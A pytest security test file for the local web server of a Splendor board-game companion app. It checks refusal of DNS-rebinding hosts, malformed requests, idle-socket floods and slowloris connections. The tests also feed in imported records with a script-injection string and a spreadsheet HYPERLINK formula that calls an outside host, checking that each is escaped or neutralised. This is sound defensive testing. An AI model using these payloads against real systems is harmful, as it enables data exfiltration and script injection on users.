"""A hostile guest on the kiosk's network, against a real ``splendor-companion serve`` on
127.0.0.1 (issue 36): a foreign ``Host`` (DNS rebinding), aiohttp's own refusals,
inputs the parser cannot take, a setting it cannot use, a live feed closed and opened
again, more sockets than the server keeps, a game imported by a command while it serves,
a club's journal. The load cases (1,100 idle sockets) are behind the long marker."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from servetools import WAIT, Answer, Served, serving, stderr_of
from webtools import play

from companion.engine.simulate import simulate
from companion.journal.store import Store
from web.club import club_journal
from web.server import PAGE_SIZE

FOREIGN = ("rebind.attacker.example", "rebind.attacker.example:8080", "evil", "127.0.0.1.nip.io")


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Served, Path]]:
    """A journal with two games (one finished), and ``serve`` on it: the app not running,
    one live feed at most, and one more name allowed."""
    data = tmp_path_factory.mktemp("attacks") / "data"
    data.mkdir()
    with Store(data / "games.sqlite3") as store:
        play(store, seed=3)
        play(store, seed=4, moves=6)
    with serving(data, "--max-clients", "1", "--allow-host", "splendor.club.example") as server:
        yield server, data


def check_headers(answer: Answer) -> None:
    assert answer.headers.get("content-security-policy", "").startswith("default-src 'self'")
    assert answer.headers.get("x-content-type-options") == "nosniff"
    assert answer.headers.get("x-frame-options") == "DENY"


def test_a_foreign_host_reads_nothing(served: tuple[Served, Path]) -> None:
    server, _data = served
    for host in FOREIGN:
        for path in ("/", "/games", "/api/v1/games", "/games/1/export/json", "/static/live.js"):
            answer = server.get(path, host=host)
            assert answer.status == 421, (host, path)
            check_headers(answer)
            assert len(answer.body) < 200
            assert b"Game" not in answer.body and b"players" not in answer.body
    no_host = Answer.of(server.raw(b"GET /api/v1/games HTTP/1.0\r\n\r\n"))
    assert no_host.status == 421


def test_the_kiosks_own_names_are_answered(served: tuple[Served, Path]) -> None:
    server, _data = served
    short = socket.gethostname().split(".")[0].lower()
    port = server.port
    for host in (
        f"127.0.0.1:{port}",
        "127.0.0.1",
        f"localhost:{port}",
        "LOCALHOST.",
        f"[::1]:{port}",
        f"{short}:{port}",
        f"{short}.local:{port}",
        short + ".local",
    ):
        answer = server.get("/api/v1/games", host=host)
        assert answer.status == 200, host
        assert json.loads(answer.body)["api"] == 1


def test_another_name_is_allowed_by_the_option(served: tuple[Served, Path]) -> None:
    server, _data = served
    assert server.get("/", host="splendor.club.example:8080").status == 200
    assert server.get("/", host="other.club.example").status == 421


def test_the_servers_own_refusals_carry_the_headers_and_never_echo(
    served: tuple[Served, Path],
) -> None:
    server, _data = served
    marker = "<script>alert(1)</script>"
    long_line = server.raw(
        f"GET /{marker}{'a' * 5000} HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode()
    )
    long_header = server.raw(
        f"GET / HTTP/1.1\r\nHost: {server.host}\r\nX-A: {marker}{'b' * 5000}\r\n\r\n".encode()
    )
    broken = server.raw(
        f"GET / HTTP/1.1\r\nHost: {server.host}\r\nNo colon {marker}\r\n\r\n".encode()
    )
    for data in (long_line, long_header, broken):
        answer = Answer.of(data)
        assert answer.status == 400
        check_headers(answer)
        assert b"script" not in data and b"aaaa" not in data and b"bbbb" not in data
        assert b"Traceback" not in data


def test_the_api_says_its_errors_in_json_with_a_code(served: tuple[Served, Path]) -> None:
    server, _data = served
    for path, status, code in (
        ("/api/v1/games/0", 404, "not-found"),
        ("/api/v1/games/999", 404, "no-game"),
        ("/api/v1/games/1?move=abc", 400, "bad-request"),
        ("/api/v1/games/1?move=%C2%B2", 400, "bad-request"),
        ("/api/v1/games?page=0", 400, "bad-request"),
        ("/api/v1/no/such", 404, "not-found"),
    ):
        answer = server.get(path)
        assert answer.status == status, path
        assert answer.headers["content-type"].startswith("application/json"), path
        found = json.loads(answer.body)
        assert found["error"] == code, path
        assert found["message"] and "\n" not in found["message"]
        check_headers(answer)


@pytest.mark.parametrize(
    "path",
    [
        "/games/1?move=%C2%B2",  # a superscript two: str.isdigit() takes it, int() does not
        "/games/1?move=%D9%A3",  # an Arabic-Indic three
        "/games/1?move=99999999999999999999",
        "/games/%D9%A3",
        "/games?page=%C2%B2",
        "/games/1?move=%FF%FE",
        "/stats?a=%00&b=%FF",
    ],
)
def test_input_the_parser_cannot_take_is_a_400_never_a_500(
    served: tuple[Served, Path], path: str
) -> None:
    server, _data = served
    answer = server.get(path)
    assert answer.status in (200, 400, 404), path
    assert answer.status < 500
    check_headers(answer)


def test_a_setting_the_page_cannot_use_is_said_in_one_line(served: tuple[Served, Path]) -> None:
    server, data = served
    settings = data / "settings.ini"
    settings.write_text("[companion]\nweb = yes\nweb_max_clients = \u00b2\n")
    try:
        assert server.get("/api/v1/table").status == 200  # read again as it changed
        said = stderr_of(data, server)
    finally:
        settings.unlink()
    assert "Traceback" not in said
    lines = [line for line in said.splitlines() if "web_max_clients" in line]
    assert len(lines) == 1 and "1 to 1000" in lines[0] and "32" in lines[0], said
    assert any("web = yes" in line and "0 or 1" in line for line in said.splitlines()), said


def test_a_name_the_page_cannot_be_reached_by_is_refused_in_one_line(tmp_path: Path) -> None:
    done = subprocess.run(
        [
            *(sys.executable, "-m", "splendor_companion", "serve", "--port", "8080"),
            *("--allow-host", "kiosk example", "--data-dir", str(tmp_path)),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "SPLENDOR_LANG": "en"},
    )
    assert done.returncode == 2 and "Traceback" not in done.stderr
    said = done.stderr.strip().splitlines()[-1]
    assert "--allow-host" in said and "kiosk example" in said and "host name" in said


def test_a_closed_live_feed_frees_its_place_at_once(served: tuple[Served, Path]) -> None:
    server, _data = served
    request = f"GET /events HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode()
    first = server.connect()
    first.sendall(request)
    assert b"200 OK" in first.recv(4096)
    refused = server.get("/events")
    assert refused.status == 503 and refused.headers["retry-after"]
    first.close()  # the phone reloads: its feed is closed
    # Its place is free well before the 15 s comment that would have found it closed.
    deadline = time.monotonic() + 3
    while True:
        again = server.connect()
        again.sendall(request)
        status = again.recv(4096).split(b"\r\n")[0]
        again.close()
        if b"200" in status or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert b"200" in status


def idle_sockets(server: Served, count: int, partial: bool = False) -> list[socket.socket]:
    """``count`` connections that say nothing (or half a request: slowloris)."""
    held = []
    for _ in range(count):
        s = socket.create_connection(("127.0.0.1", server.port), timeout=WAIT)
        if partial:
            s.sendall(f"GET / HTTP/1.1\r\nHost: {server.host}\r\nX-Slow: ".encode())
        held.append(s)
    return held


def test_a_phone_is_served_beside_hundreds_of_idle_sockets(served: tuple[Served, Path]) -> None:
    """More idle sockets than the server keeps (256): the oldest idle ones are closed to
    make room, and a phone's page is answered."""
    server, _data = served
    held = idle_sockets(server, 150) + idle_sockets(server, 150, partial=True)
    try:
        for _ in range(3):
            answer = server.get("/games")
            assert answer.status == 200
            assert b"Game 1" in answer.body
        closed = 0
        for s in held:
            s.setblocking(False)
            try:
                closed += s.recv(1) == b""
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
        assert closed >= 300 - 256  # the server kept no more than its cap
    finally:
        for s in held:
            s.close()


def test_a_game_imported_by_a_command_is_on_the_page(
    served: tuple[Served, Path], tmp_path: Path
) -> None:
    """The app not running: ``import`` writes the journal while ``serve`` reads it."""
    server, data = served
    record = tmp_path / "game.json"
    env = {**os.environ, "SPLENDOR_LANG": "en"}
    run = [sys.executable, "-m", "splendor_companion"]
    subprocess.run(
        [*run, "simulate", "--seed", "7", "--out", str(record)], check=True, env=env, timeout=60
    )
    before = len(json.loads(server.get("/api/v1/games").body)["games"])
    subprocess.run(
        [*run, "import", str(record), "--data-dir", str(data)],
        check=True,
        env=env,
        timeout=60,
        capture_output=True,
    )
    deadline = time.monotonic() + 2
    while True:
        games = json.loads(server.get("/api/v1/games").body)["games"]
        if len(games) > before or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert len(games) == before + 1
    assert f"Game {games[0]['id']}".encode() in server.get("/games").body


def on_the_page_within(seconds: float, seen: Any) -> bool:
    """Whether ``seen()`` comes true within ``seconds`` (the page's promise), asked every
    0.1 s."""
    deadline = time.monotonic() + seconds
    while not seen():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)
    return True


def test_names_merged_by_a_command_are_on_the_page(tmp_path: Path) -> None:
    """The app not running: ``names --merge`` writes the journal while ``serve`` reads it;
    the statistics count the two names as one person within 2 s."""
    data = tmp_path / "data"
    data.mkdir()
    env = {**os.environ, "SPLENDOR_LANG": "en"}
    run = [sys.executable, "-m", "splendor_companion"]
    record = tmp_path / "game.json"
    subprocess.run([*run, "simulate", "--seed", "7", "--out", str(record)], check=True, env=env)
    played = json.loads(record.read_text())
    played["players"] = ["Benny", "Cleo"]  # Benny is Ben, spelt another way
    record.write_text(json.dumps(played))
    with Store(data / "games.sqlite3") as store:
        play(store, seed=3)
    subprocess.run([*run, "import", str(record), "--data-dir", str(data)], check=True, env=env)
    with serving(data) as server:
        assert on_the_page_within(WAIT, lambda: server.get("/stats").status == 200)
        assert b"Benny" in server.get("/stats").body
        subprocess.run(
            [*run, "names", "--merge", "Benny", "Ben", "--data-dir", str(data)],
            check=True,
            env=env,
            timeout=60,
            capture_output=True,
        )
        assert on_the_page_within(2, lambda: b"Benny" not in server.get("/stats").body)


def test_a_game_the_app_finishes_is_on_the_page(tmp_path: Path) -> None:
    """The app running (the journal's writer, its WAL beside it): a game it plays to the
    end is on the games list within 2 s, and the table says no game is being played."""
    data = tmp_path / "data"
    data.mkdir()
    with Store(data / "games.sqlite3") as app, serving(data) as server:
        session = play(app, seed=5, moves=10)

        def table() -> dict[str, Any]:
            return dict(json.loads(server.get("/api/v1/table").body))

        assert on_the_page_within(2, lambda: table()["table"] is not None)
        game = simulate(players=2, seed=5)
        for move in game.moves[10:]:
            session.play(move)
        assert session.game.over

        def listed() -> list[dict[str, Any]]:
            return list(json.loads(server.get("/api/v1/games").body)["games"])

        assert on_the_page_within(2, lambda: listed()[0]["state"] == "over")
        assert on_the_page_within(2, lambda: table()["table"] is None)
        assert table()["last"]["id"] == session.game_id


HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1)', "<script>alert(1)</script>"]


def test_a_hostile_record_imported_is_shown_as_text_and_downloads_safely(
    tmp_path: Path,
) -> None:
    """A record from a stranger, imported by the command: a formula and a script as the
    players' names. The page escapes them, the JSON cannot close a script, the CSV writes
    the formula as text, the file's name holds neither; and every attack leaves the
    journal's folder as it was, byte for byte."""
    import csv

    data = tmp_path / "data"
    data.mkdir()
    env = {**os.environ, "SPLENDOR_LANG": "en"}
    run = [sys.executable, "-m", "splendor_companion"]
    record = tmp_path / "game.json"
    subprocess.run([*run, "simulate", "--seed", "7", "--out", str(record)], check=True, env=env)
    played = json.loads(record.read_text())
    played["players"] = HOSTILE_NAMES
    record.write_text(json.dumps(played))
    subprocess.run([*run, "import", str(record), "--data-dir", str(data)], check=True, env=env)
    before = {p.name: p.read_bytes() for p in data.iterdir()}
    with serving(data) as server:
        page = server.get("/games/1")
        assert page.status == 200
        assert b"<script>alert" not in page.body and b"&lt;script&gt;" in page.body
        api = server.get("/api/v1/games/1")
        assert b"<" not in api.body and json.loads(api.body)["info"]["players"] == HOSTILE_NAMES
        download = server.get("/games/1/export/csv")
        assert download.status == 200
        disposition = download.headers["content-disposition"]
        assert "<" not in disposition and "=HYPERLINK" not in disposition
        rows = list(csv.reader(download.body.decode("utf-8-sig").splitlines()))
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
        big = b"x" * (10 << 20)  # a 10 MB body, sent whole
        head = f"POST /games HTTP/1.1\r\nHost: {server.host}\r\nContent-Length: {len(big)}\r\n"
        with server.connect() as s:
            s.sendall((head + "Connection: close\r\n\r\n").encode())
            with contextlib.suppress(OSError):
                s.sendall(big)
            answer = s.recv(4096)
        assert answer.split(b" ")[1] in (b"405", b"413"), answer[:80]
        assert server.get("/games").status == 200
    assert {p.name: p.read_bytes() for p in data.iterdir()} == before


def test_a_club_journal_is_answered_in_pages_under_100_kb(tmp_path: Path) -> None:
    data = tmp_path / "data"
    club_journal(data, 130, cache=tmp_path / "cache", seeds=2)
    with serving(data) as server:
        first = server.get("/games")
        assert first.status == 200 and len(first.body) < 100_000
        assert first.body.count(b'<li><a href="/games/') == PAGE_SIZE
        assert b'rel="next"' in first.body and b'rel="prev"' not in first.body
        last = server.get("/games?page=3")
        assert last.body.count(b'<li><a href="/games/') == 130 - 2 * PAGE_SIZE
        assert b'rel="prev"' in last.body and b'rel="next"' not in last.body
        api = json.loads(server.get("/api/v1/games?page=2").body)
        assert (api["page"], api["pages"], len(api["games"])) == (2, 3, PAGE_SIZE)
        beyond = json.loads(server.get("/api/v1/games?page=40").body)
        assert beyond["page"] == 3
        seen = {
            g["id"]
            for p in (1, 2, 3)
            for g in json.loads(server.get(f"/api/v1/games?page={p}").body)["games"]
        }
        assert len(seen) == 130
        for path in ("/", "/api/v1/table", "/stats", "/games/1", "/api/v1/games/1"):
            answer = server.get(path)
            deadline = time.monotonic() + WAIT
            while answer.status == 503 and path == "/stats" and time.monotonic() < deadline:
                time.sleep(0.2)  # the games still being counted: the page asks again so
                answer = server.get(path)
            assert answer.status == 200 and len(answer.body) < 100_000, path


def test_another_phone_is_served_while_the_statistics_are_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The statistics read for the first time (a club's journal: a minute or more): the
    statistics page says how far the counting is and asks again by itself, every other
    page is answered meanwhile, and the figures come once read."""
    import urllib.error
    import urllib.request

    import web.server
    from companion.reports import stats
    from web.running import ServerThread

    data = tmp_path / "data"
    data.mkdir()
    with Store(data / "games.sqlite3") as store:
        play(store, seed=3)
    reading, go_on = threading.Event(), threading.Event()
    real = stats.played_games

    def slow(store: Store, **options: Any) -> list[object]:
        reading.set()
        go_on.wait(WAIT)
        return list(real(store, **options))

    monkeypatch.setattr(web.server, "played_games", slow)
    with ServerThread(data / "games.sqlite3", figures=False) as server:
        assert reading.wait(WAIT)
        with pytest.raises(urllib.error.HTTPError) as counting:
            urllib.request.urlopen(server.url + "/stats?lang=en", timeout=WAIT)
        assert counting.value.code == 503 and counting.value.headers["Retry-After"]
        page = counting.value.read().decode()
        assert "being counted for the statistics (0 of 1)" in page
        assert '<meta http-equiv="refresh"' in page
        with urllib.request.urlopen(server.url + "/games", timeout=WAIT) as other:
            assert other.status == 200  # while the statistics are still being read
        go_on.set()
        deadline = time.monotonic() + WAIT
        while True:
            try:
                with urllib.request.urlopen(server.url + "/stats?lang=en", timeout=WAIT) as ready:
                    assert ready.status == 200
                    assert "Per player" in ready.read().decode()
                    break
            except urllib.error.HTTPError as err:
                assert err.code == 503 and time.monotonic() < deadline
                time.sleep(0.1)


@pytest.mark.long
def test_a_phone_is_served_beside_1100_idle_sockets(served: tuple[Served, Path]) -> None:
    server, _data = served
    held = idle_sockets(server, 1100)
    try:
        started = time.monotonic()
        answer = server.get("/")
        took = time.monotonic() - started
        assert answer.status == 200
        print(f"a page beside 1,100 idle sockets: {took * 1000:.0f} ms")
    finally:
        for s in held:
            s.close()


@pytest.mark.long
def test_1100_idle_sockets_under_a_low_open_files_limit_leave_room_and_a_quiet_log(
    tmp_path: Path,
) -> None:
    """``serve`` started where a process may open 600 files (a shell's limit is often
    1,024) and told to keep 1,000 live feeds: it keeps no more sockets than its files
    allow, so 1,100 idle ones never leave it without a file (asyncio would then stop
    accepting for a second, with a traceback each time), a phone's page is answered, and
    the log says the closings in one line."""
    data = tmp_path / "data"
    data.mkdir()
    with Store(data / "games.sqlite3") as store:
        play(store, seed=3, moves=6)
    with serving(data, "--max-clients", "1000", files=(600, 600)) as server:
        held = idle_sockets(server, 1100)
        try:
            took = []
            for _ in range(5):
                started = time.monotonic()
                answer = server.get("/")
                took.append(time.monotonic() - started)
                assert answer.status == 200 and b"live.js" in answer.body
            print(f"a page beside 1,100 idle sockets, 600 files: {max(took) * 1000:.0f} ms")
            opened = len(os.listdir(f"/proc/{server.process.pid}/fd"))
            assert opened < 600
        finally:
            for s in held:
                s.close()
        said = stderr_of(data, server)
    assert "Traceback" not in said and "no file left" not in said
    assert len(said.splitlines()) <= 2, said


@pytest.mark.long
def test_300_live_feeds_32_served_the_rest_a_clean_503_and_pages_still_answered(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    data.mkdir()
    with Store(data / "games.sqlite3") as store:
        play(store, seed=3, moves=6)
    with serving(data) as server:
        feeds = []
        statuses = []
        try:
            for _ in range(300):
                s = server.connect()
                s.sendall(f"GET /events HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode())
                statuses.append(s.recv(4096).split(b"\r\n")[0].split(b" ")[1])
                feeds.append(s)
            assert statuses.count(b"200") == 32 and statuses.count(b"503") == 268
            for _ in range(20):
                assert server.get("/").status == 200
        finally:
            for s in feeds:
                s.close()


def test_serve_raises_its_own_open_files_limit_where_it_may(tmp_path: Path) -> None:
    """A shell's soft limit (here 256) is below the sockets the server may keep: it is
    raised towards 2,048 (the unit's), within the hard limit."""
    data = tmp_path / "data"
    data.mkdir()
    with serving(data, files=(256, 4096)) as server:
        assert limits_of(server.process.pid) == (2048, 4096)


def limits_of(pid: int) -> tuple[int, int]:
    for line in Path(f"/proc/{pid}/limits").read_text().splitlines():
        if line.startswith("Max open files"):
            soft, hard = line.split()[3:5]
            return int(soft), int(hard)
    raise AssertionError("no open files limit")


@pytest.mark.parametrize(
    ("version", "status", "code", "words"),
    [
        (99, 503, "newer-journal", "newer Splendor Companion: update this one"),
        (4, 503, "older-journal", "the app updates it when it next starts"),
        (0, 503, "foreign-journal", "not a Splendor Companion journal"),  # tables, no id
        (-1, 200, None, None),  # being created by the app, this instant: no games yet
    ],
)
def test_each_journal_state_has_its_honest_word(
    tmp_path: Path, version: int, status: int, code: str | None, words: str | None
) -> None:
    import sqlite3

    from aiohttp.test_utils import TestClient
    from webtools import serve

    path = tmp_path / "games.sqlite3"
    if version >= 0:
        with Store(path) as store:
            play(store, seed=3, moves=4)
    raw = sqlite3.connect(path)
    if version >= 0:
        raw.execute(f"PRAGMA user_version={version}")
    if version == 0:
        raw.execute("PRAGMA application_id=0")
    else:
        raw.execute("PRAGMA journal_mode=WAL")  # the app's first words to a new file
    raw.commit()
    raw.close()

    async def check(client: TestClient[Any, Any]) -> tuple[int, str, int, dict[str, Any]]:
        page = await client.get("/games")
        api = await client.get("/api/v1/games")
        return page.status, await page.text(), api.status, await api.json()

    page_status, page, api_status, api = serve(path, check)
    assert (page_status, api_status) == (status, status)
    assert str(tmp_path) not in page and str(tmp_path) not in json.dumps(api)
    if code is None:
        assert api["games"] == []
    else:
        assert api["error"] == code and words in api["message"]
        assert words in page
        assert "open it with the app once" not in page + api["message"]


def journal_in_state(path: Path, state: str) -> None:
    """A journal of one game, then made ``state``: newer, older, damaged or foreign."""
    import sqlite3

    with Store(path) as store:
        play(store, seed=3, moves=4)
    if state == "damaged":
        with open(path, "r+b") as f:  # pages of the tables overwritten
            f.seek(4096)
            f.write(b"\xa5" * 4096 * 3)
        return
    raw = sqlite3.connect(path)
    version = {"newer": 99, "older": 4, "foreign": 0}[state]
    raw.execute(f"PRAGMA user_version={version}")
    if state == "foreign":
        raw.execute("PRAGMA application_id=0")
    raw.commit()
    raw.close()


@pytest.mark.parametrize("state", ["newer", "older", "damaged", "foreign"])
def test_a_journal_state_is_said_in_the_same_words_by_the_commands_and_the_page(
    tmp_path: Path, state: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """The command's line begins with the page's sentence, which the page's answer and
    the API's message are (the server in this process: each state's file is read the
    same way by ``serve``)."""
    from aiohttp.test_utils import TestClient
    from webtools import serve

    from companion.cli import main
    from companion.journal.store import JOURNAL_STATES

    data = tmp_path / "data"
    data.mkdir()
    journal_in_state(data / "games.sqlite3", state)
    code = f"{state}-journal"
    words = JOURNAL_STATES[code]  # type: ignore[index]
    assert main(["games", "--data-dir", str(data)]) == 2
    said = capsys.readouterr().err
    assert said.startswith(words) and said.strip().count("\n") == 0, said

    async def check(client: TestClient[Any, Any]) -> tuple[int, str, dict[str, Any]]:
        page = await client.get("/games")
        api = await client.get("/api/v1/games")
        return page.status, await page.text(), await api.json()

    status, page, api = serve(data / "games.sqlite3", check)
    assert (api["error"], api["message"]) == (code, words)
    assert words in page and status == 503


WRITER = """
import random, sys, time
from companion.engine.simulate import simulate
from companion.journal.session import Session
from companion.engine.simulate import simulate
from companion.journal.store import Store

store = Store(sys.argv[1])
found = store.latest_unfinished()
session = Session.resume(store, found.id) if found else None
while True:
    if session is None or session.game.over:
        session = Session.start(store, simulate(players=2, seed=5).setup)
    session.play(random.choice(list(session.game.legal_moves())))
    time.sleep(0.02)
"""


@pytest.mark.long
def test_killing_the_app_and_the_page_at_random_loses_nothing(tmp_path: Path) -> None:
    """The app's writer and ``serve`` killed (SIGKILL) at random and started again, for
    a minute, while a phone reads: every answer is the table or a clean 503, never a 500;
    the journal stays whole and the page follows it."""
    import random
    import urllib.error
    import urllib.request

    data = tmp_path / "data"
    data.mkdir()
    path = data / "games.sqlite3"
    rng = random.Random(36)
    env = {**os.environ, "SPLENDOR_LANG": "en"}

    def writer() -> subprocess.Popen[bytes]:
        return subprocess.Popen([sys.executable, "-c", WRITER, str(path)], env=env)

    app = writer()
    statuses: list[int] = []
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            with serving(data) as server:
                until = time.monotonic() + rng.uniform(1, 5)
                while time.monotonic() < until:
                    for url in ("/api/v1/table", "/games", "/"):
                        try:
                            with urllib.request.urlopen(
                                f"http://{server.host}{url}", timeout=WAIT
                            ) as answer:
                                statuses.append(answer.status)
                        except urllib.error.HTTPError as err:
                            statuses.append(err.code)
                    if rng.random() < 0.2:
                        app.kill()
                        app.wait(10)
                        app = writer()
                server.process.kill()  # the page too, mid-answer or not
    finally:
        app.kill()
        app.wait(10)
    assert statuses and set(statuses) <= {200, 503}, sorted(set(statuses))
    with Store(path) as store:
        assert store.integrity() == "ok"
        moves = sum(g.moves for g in store.games())
    with serving(data) as server:
        table = json.loads(server.get("/api/v1/table").body)
        listed = json.loads(server.get("/api/v1/games").body)["games"]
    assert sum(g["moves"] for g in listed) == moves or len(listed) == 50
    assert table["running"] is False
